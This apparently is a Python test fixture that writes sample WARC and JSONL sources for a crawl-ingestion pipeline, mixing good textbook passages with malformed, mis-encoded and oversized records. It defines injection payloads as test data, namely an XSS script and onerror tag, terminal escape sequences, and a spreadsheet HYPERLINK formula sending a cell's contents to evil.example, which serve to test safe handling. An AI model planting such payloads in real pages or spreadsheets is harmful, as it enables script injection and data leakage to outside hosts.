"""A folder of sources as crawls and exports have them: about thirty good documents, and among them everything bad."""

from __future__ import annotations

import gzip
import html
import json
from pathlib import Path
from typing import NamedTuple

from bad_files import QUICKSTART, members, record, response

HTML = b"Content-Type: text/html"
UTF8 = b"Content-Type: text/html; charset=utf-8"

#: What nothing may run, follow, obey or compute, wherever it is shown.
SCRIPT = "<script>alert('31337')</script>"
IMAGE = "<img src=x onerror=alert(31337)>"
ESCAPE = "\x1b[2J\x1b[31mred\x1b]0;owned\x07"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_URL = f"http://evil.example/\x1b[31m{SCRIPT}?q"

FRENCH = (
    "La forêt commence derrière l'école, là où le chemin tourne près du vieux moulin. Les élèves y vont chaque été pour "
    "ramasser des mûres et écouter les oiseaux. Le garde, un homme âgé qui connaît chaque hêtre, leur montre où dorment "
    "les chevreuils et comment reconnaître un cèpe. À midi on mange du pain et du fromage au bord de la rivière, puis on "
    "rentre à pied, fatigués et contents, avec des paniers pleins. Personne ne se dépêche, car la lumière reste longtemps "
    "sur les collines, et la maîtresse dit que c'est déjà presque les vacances."
)
RUSSIAN = (
    "Старый паровоз стоит на запасном пути за станцией, и дети приходят к нему после уроков. Они забираются в кабину, "
    "трогают холодные рычаги и спорят, кто сегодня будет машинистом. Сторож ворчит, но не прогоняет их, потому что сам "
    "когда-то ездил на таком паровозе через всю страну. Зимой котёл покрывается снегом, весной вокруг растут одуванчики, "
    "а летом из будки пахнет чаем и яблоками. Вечером над путями загораются фонари, и каждый знает, что пора домой."
)
JAPANESE = (
    "町のはずれに小さな図書館がある。毎朝、館長は窓を開けて、ほこりを払い、新しい本を棚に並べる。子どもたちは学校の帰りに立ち寄り、"
    "床に座って昔話を読む。雨の日には屋根を打つ音が聞こえて、だれも話さない。夕方になると、館長は灯を消して、坂道をゆっくり下りて帰る。"
    "次の日もまた同じように始まるけれど、本の中の物語はいつも少しずつ違って見える。"
)


class Fate(NamedTuple):
    """A record, by its file and address or line, and what has to become of it: reason None is kept."""

    file: str
    at: str | int | None  # address, or line number; None where the damage names no record
    stage: str | None
    reason: str | None


def passages(n: int) -> list[str]:
    """n passages of about 1,300 characters from textbooks: prose, not formulas or lists of numbers."""
    with gzip.open(QUICKSTART / "openstax_ccby_sample.jsonl.gz", "rt", encoding="utf-8") as stream:
        texts = [json.loads(line)["text"] for line in stream]
    cut = [text[2000:3300] for text in texts if len(text) > 6000]
    return [text for text in cut if sum(any(map(str.isalpha, w)) for w in text.split()) > 0.97 * len(text.split())][:n]


def page(text: str, head: str = "") -> str:
    return (
        f"<!DOCTYPE html><html><head>{head}<title>A page</title></head><body><main><p>{html.escape(text)}</p></main>"
        "</body></html>"
    )


def write_sources(folder: Path) -> list[Fate]:
    """Writes the files; returns the fate of each record that is not simply good."""
    good = passages(35)
    assert len(good) == 35
    fates = _pages(folder / "pages.warc.gz", good[:10], " ".join(good[32:]))
    fates += _damaged(folder, good[10:18])
    return fates + _lines(folder, good[18:32])


def at(record: bytes, url: str) -> bytes:
    """The record with another address."""
    head, _, rest = record.partition(b"WARC-Target-URI: ")
    return head + b"WARC-Target-URI: " + url.encode() + rest[rest.index(b"\r\n") :]


def _pages(path: Path, good: list[str], long: str) -> list[Fate]:
    evil = page(f"{FORMULA} {ESCAPE} {SCRIPT} {IMAGE} {good[0]} {long}", "<script>alert('31337')</script>")
    records = [
        at(record(100, response(evil.encode(), UTF8)), EVIL_URL),  # first, so that `show` prints it
        *(record(i, response(page(text).encode(), UTF8)) for i, text in enumerate(good[1:], 1)),
        record(101, response(page(FRENCH).encode("cp1252"), UTF8)),  # the label lies
        record(102, response(page(RUSSIAN).encode("cp1251"), HTML)),  # no label
        record(103, response(page(JAPANESE).encode("euc_jp"), b"Content-Type: text/html; charset=x-none")),
        record(104, response(b"", HTML)),
        record(105, response(b"<html><body><div> \n </div></body></html>", HTML)),
        record(106, response(b"<html><body>" + b"<p>twenty megabytes of the same</p>" * 600_000, HTML)),
        record(107, response(b"<html><body>" + b"<p>nine megabytes</p>" * 450_000, HTML)),
        record(108, response(b"<html>" + b"<div>" * 5000 + b"deep", HTML)),
        record(109, response(page(good[1]).encode(), UTF8)),  # a copy of page 1
        record(110, response(page("A few words only.").encode(), UTF8)),
        record(111, response(b"\x89PNG\r\n\x1a\n" + bytes(100), b"Content-Type: image/png")),
        record(112, response(b"gone", HTML, status=b"404 Not Found")),
        record(113, b"GET / HTTP/1.1\r\n\r\n", kind=b"request"),  # no document: counted, without a row
    ]
    path.write_bytes(b"".join(members(records)))
    why = {
        104: ("ingest", "empty_payload"),
        105: ("extract", "empty_text"),
        106: ("ingest", "record_too_large"),
        107: ("extract", "page_too_large"),
        108: ("extract", "too_deep"),
        110: ("filter", "gopher_short_doc"),
        111: ("ingest", "not_html"),
        112: ("ingest", "http_status"),
        **dict.fromkeys((101, 102, 103), (None, None)),
    }
    return [Fate(path.name, EVIL_URL, None, None)] + [Fate(path.name, f"http://example.org/{n}", *w) for n, w in why.items()]


def _damaged(folder: Path, good: list[str]) -> list[Fate]:
    fine = [record(200 + i, response(page(text).encode(), UTF8)) for i, text in enumerate(good)]
    liar = record(210, response(page("It lies about its length. " * 40).encode(), UTF8), length=1_000_000)
    whole = members(fine)
    (folder / "truncated.warc.gz").write_bytes(b"".join(whole[:2]) + whole[2][: len(whole[2]) // 2])
    (folder / "liar.warc.gz").write_bytes(whole[3] + members([liar])[0] + whole[4])
    (folder / "tail.warc.gz").write_bytes(whole[5] + b"\r\n-- uploaded by a proxy --\r\n" * 20)
    (folder / "torn.warc").write_bytes(fine[6] + fine[7][:-900])
    return [
        Fate("truncated.warc.gz", "http://example.org/202", "ingest", "truncated_record"),
        Fate("liar.warc.gz", "http://example.org/210", "ingest", "bad_length"),
        Fate("tail.warc.gz", None, "ingest", "trailing_garbage"),
        Fate("torn.warc", "http://example.org/207", "ingest", "truncated_record"),
    ]


def _lines(folder: Path, good: list[str]) -> list[Fate]:
    lines = [
        json.dumps({"id": f"line-{i}", "url": f"https://books.example/{i}", "text": text}) for i, text in enumerate(good)
    ]
    bad = [
        "{not json",
        json.dumps({"id": "no-text", "title": "no text"}),
        json.dumps({"id": "empty", "text": ""}),
        "",
        json.dumps({"id": "a list", "text": ["a", "b"]}),
        json.dumps({"id": "blank", "text": " \n\t "}),
        "[1, 2]",
        json.dumps({"id": "again", "text": good[0]}),
    ]
    odd = ["not_json", "no_text", "empty_text", None, "no_text", "empty_text", "no_text"]
    written = lines[:5] + bad + lines[5:10]
    (folder / "lines.jsonl").write_text("\n".join(written) + "\n", encoding="utf-8")
    (folder / "tail.jsonl.gz").write_bytes(gzip.compress("\n".join(lines[10:]).encode()) + b"\x00garbage" * 9)
    found = [Fate("lines.jsonl", 5 + i, "ingest", reason) for i, reason in enumerate(odd) if reason]
    return found + [Fate("tail.jsonl.gz", len(lines) - 10, "ingest", "trailing_garbage")]
